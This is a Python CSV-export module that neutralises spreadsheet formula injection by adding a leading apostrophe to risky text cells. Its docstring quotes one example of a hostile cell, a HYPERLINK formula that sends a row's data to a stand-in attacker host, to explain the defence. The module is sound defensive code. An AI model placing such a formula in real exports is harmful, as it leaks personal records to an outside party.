"""The one CSV writer for everything the site exports.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab, a carriage return or the full-width forms of those signs) as a formula:
a household's note reading ``=HYPERLINK("http://evil.example/?"&A1)`` would leak the row
when a caseworker opens the ledger. Every text cell written here is neutralised by a
leading apostrophe, which spreadsheets show as plain text. Numbers stay numbers.

Use :func:`csv_lines` to stream rows (a generator: nothing holds the whole file) and
:func:`csv_text` for small files. The Excel exports use :func:`neutralise` for the same
rule (openpyxl also stores a string starting with ``=`` as a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

# ASCII triggers plus their full-width forms (＝ ＋ － ＠), which some spreadsheet
# programs also accept as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"  # Excel opens UTF-8 CSV as UTF-8 only with it


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet should see it: text that would start a formula gets a
    leading apostrophe; numbers, dates and None pass through unchanged."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _cell(value: Any) -> Any:
    value = neutralise(value)
    if value is None:
        return ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    return value


class _Line:
    """A file-like sink that keeps only the line being written."""

    def __init__(self) -> None:
        self.buffer = io.StringIO()

    def write(self, text: str) -> int:
        return self.buffer.write(text)

    def take(self) -> str:
        text = self.buffer.getvalue()
        self.buffer.seek(0)
        self.buffer.truncate()
        return text


def csv_lines(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True
) -> Iterator[str]:
    """The CSV file line by line (the BOM first), every cell neutralised. Rows are pulled
    one at a time, so a generator of a million rows streams in constant memory."""
    sink = _Line()
    writer = csv.writer(sink)
    if bom:
        yield BOM
    writer.writerow([_cell(v) for v in header])
    yield sink.take()
    for row in rows:
        writer.writerow([_cell(v) for v in row])
        yield sink.take()


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """A small CSV file as one string (same rules as :func:`csv_lines`)."""
    return "".join(csv_lines(header, rows, bom=bom))
